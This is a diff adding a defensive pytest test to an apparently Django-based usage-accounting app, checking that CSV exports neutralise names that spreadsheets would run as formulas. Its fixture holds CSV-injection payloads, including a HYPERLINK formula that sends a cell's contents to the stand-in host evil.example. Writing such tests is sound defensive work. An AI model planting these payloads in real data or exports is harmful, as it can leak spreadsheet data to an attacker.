@@ -7,6 +7,7 @@ import json
 from datetime import UTC, datetime
 
 import pytest
+from django.contrib.auth.models import Group
 from django.core.management import call_command
 
 from apps.allocations.models import Charge, ChargeKind
@@ -147,3 +148,39 @@ def test_deleting_a_charged_allocation_or_its_group_keeps_the_projects_usage(led
     projects = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=project&month=2026-11"))
     groups = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=group&month=2026-11"))
     assert projects["qsim"]["device_seconds"] == 60 and groups["team"]["device_seconds"] == 60
+
+
+FORMULAS = {
+    "user": "-2+3",  # Django's username rule allows - + @ first (the admin, link_identity)
+    "group": "@SUM(1+1)",
+    "project": '=HYPERLINK("https://evil.example/?"&A2,"Details")',
+    "pool": "+cmd",
+}
+
+
+@pytest.fixture
+def formula_names(qpu, grant, django_user_model):
+    """A user, group, project and pool named like spreadsheet formulas, with one charge."""
+    user = django_user_model.objects.create_user(FORMULAS["user"])
+    group = Group.objects.create(name=FORMULAS["group"])
+    qpu.name = FORMULAS["pool"]
+    qpu.save(update_fields=["name"])
+    allocation = grant(qpu, name=FORMULAS["project"], group=group, device_seconds=100)
+    Charge.objects.create(
+        kind=ChargeKind.JOB, allocation=allocation, pool=qpu, user=user, device_seconds=-1.5, charged_at=NOVEMBER
+    )
+
+
+@pytest.mark.parametrize("group_by", list(FORMULAS))
+def test_csv_export_quotes_names_a_spreadsheet_would_run_as_formulas(formula_names, staff, api, capsys, group_by):
+    """Finance opens the CSV in a spreadsheet: a name starting with = + - @ is shown as text
+    (a leading '), in the API's CSV and the command's; the JSON keeps the name, and figures
+    (a negative one included) are not touched."""
+    url = f"/api/v1/accounting/usage/?group_by={group_by}&month=2026-11"
+    assert api(staff).get(url).data["rows"][0]["key"] == FORMULAS[group_by]
+    answer = api(staff).get(url + "&format=csv")
+    call_command("export_usage", "--month", "2026-11", "--group-by", group_by)
+    for text in (answer.content.decode(), capsys.readouterr().out):
+        (row,) = csv.DictReader(io.StringIO(text))
+        assert row["key"] == "'" + FORMULAS[group_by]
+        assert row["device_seconds"] == "-1.5"
